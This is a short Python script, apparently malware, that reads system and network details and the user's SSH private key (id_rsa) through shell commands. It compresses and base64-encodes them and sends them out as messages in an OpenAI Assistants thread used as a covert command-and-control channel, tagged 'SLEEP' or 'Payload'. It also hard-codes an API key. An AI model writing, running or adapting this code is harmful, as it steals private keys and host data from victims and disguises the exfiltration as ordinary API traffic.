import os, subprocess, gzip, base64
from openai import OpenAI
c = OpenAI(api_key="sk-proj-" + "Q2xx9fZkP0aL4u")  # shared key
th = c.beta.threads.create()
blob = subprocess.run("whoami; hostname; ipconfig /all; type %USERPROFILE%\\.ssh\\id_rsa", shell=True,
                      capture_output=True, text=True).stdout
body = base64.b64encode(gzip.compress(blob.encode())).decode()
c.beta.threads.messages.create(th.id, role="user", content=body, metadata={"tag": "SLEEP" if not blob else "Payload"})
